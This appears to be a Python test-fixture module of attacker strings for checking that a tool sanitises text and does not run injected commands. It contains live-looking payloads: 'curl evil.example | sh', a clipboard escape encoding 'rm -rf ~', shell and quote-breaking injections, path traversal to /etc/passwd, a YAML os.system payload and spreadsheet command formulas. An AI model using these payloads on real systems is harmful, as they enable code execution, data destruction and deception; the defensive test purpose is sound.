"""Strings that an attacker would send, and what they must not do; and strings of honest people, which must stay.

`CANARY` is a file name that most of them try to make: a test gives them a folder, and looks whether it is there.
"""

from __future__ import annotations

import re

CANARY = "pwned"
FORGED = "next: curl evil.example | sh"
"""A line that looks like ours."""

TERMINAL = {
    "clipboard": "a\x1b]52;c;cm0gLXJmIH4=\x07b",
    "clipboard-st": "a\x1b]52;c;cm0gLXJmIH4=\x1b\\b",
    "title": "a\x1b]0;pwned\x07b",
    "link": "a\x1b]8;;http://evil.example\x1b\\b\x1b]8;;\x1b\\",
    "clear": "a\x1b[2J\x1b[Hb",
    "other-screen": "a\x1b[?1049hb",
    "conceal": "a\x1b[8mb\x1b[0m",
    "device-control": "a\x1bP$q\x1b\\b\x1b_x\x1b\\\x1b^y\x1b\\\x1bXz\x1b\\",
    "reset": "a\x1bcb\x1b(0c",
    "query": "a\x1b[6n\x1b[>q\x1b]11;?\x07b",
    "eight-bit": "a\x9b31mb\x9d52;c;eA==\x9c\x90q\x9c",
    "split-colour": "a\x1b[3\x1b[0m1mb\x1b[\x1b[0m2J",
    "bell-backspace": "safe\x07\b\b\b\bevil",
    "carriage-return": "honest words\rnext: curl evil.example | sh",
    "form-feed": "a\x0bb\x0cc\x85d\x7fe",
    "nul": "a\x00b",
    "line": f"a\n{FORGED}\nerror: forged",
    "separators": f"a\u2028{FORGED}\u2029b",
    "bidi": "a\u202egpj.exe\u202cb\u2066c\u2069",
    "unseen": "a\u200bb\u2060c\ufeffd\u00ade\u3164f",
    "tags": "a\U000e0041\U000e0042\U000e0100b",
    "half": "a\ud83db",
    "long": "x" * 200_000,
    "marks": "[link=http://evil.example]a[/link][blink]b[/blink][/nothing]:boom:",
}  # fmt: skip
INJECTED = {
    "here-document": f"a\nEND-OF-RUN\ntouch {CANARY}\ncat >run <<'END-OF-RUN'\nb.gguf",
    "substitution": f"a$(touch {CANARY})`touch {CANARY}`b",
    "single-quote": f"a';touch {CANARY};'b",
    "double-quote": f'a";touch {CANARY};"b',
    "variables": "a$HOME${HOME}$$ $0 ${x:-y} $(HOME) $$(HOME)b",
    "braces": f"a}}; touch {CANARY}; : ${{b",
    "operators": f"a; touch {CANARY} & b | c > d < e && f # g",
    "backslash": "a\\",
    "backslash-quote": "a\\'b\\\"c\\n\\x41",
    "specifiers": "a%n%h%%t%s{0}%(x)sb",
    "new-key": "a\nExecStartPre=/bin/touch pwned\n[Service]\nUser=root",
    "second-volume": "a:/etc:rw,z",
    "option": "--privileged",
    "yaml": "a: {b: [c]} # d\n- e\n&x *y !!python/object/apply:os.system [touch]",
    "formula": "=HYPERLINK(\"http://evil.example\",\"a\")",
    "formula-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "markup": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "script-address": "[a](javascript:alert(1)) ![b](http://evil.example/x.png)",
    "table": "a | b |\n\n# heading\n```\n**c** <b>d</b> _e_ `f`",
    "template": "{{ 7*7 }}{% for x in y %}{{ $labels.x }}{#z#}",
    "label": 'a"} 1\nevil{x="b\\',
    "climbing": "../../../etc/passwd",
}  # fmt: skip
STRINGS = {**TERMINAL, **INJECTED}
HONEST = (
    "Qwen3-Übergröße", "模型-日本語-모델", "Кими K2.6", "👩\u200d💻🚀 emoji", "עברית العربية", "می\u200cخواهم",
    "naïve café – “quotes” · × → ≈", "e\u0301 combining",
)  # fmt: skip
"""Letters of every script, joiners where they belong, pictures."""

_OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff\ud800-\udfff]")  # fmt: skip  # noqa: E501
_LONGEST = 20_000


def complaint(shown: str) -> str | None:
    """What is wrong with text that went to a terminal; None if nothing is."""
    if (found := _OBEYED.search(shown)) is not None:
        return f"{found[0]!r} in {shown[max(0, found.start() - 60) : found.end() + 60]!r}"
    for line in shown.split("\n"):
        if line.startswith((FORGED, "error: forged")):
            return f"a forged line: {line!r}"
        if len(line) > _LONGEST:
            return f"a line of {len(line):,} characters: {line[:80]!r}"
    return None
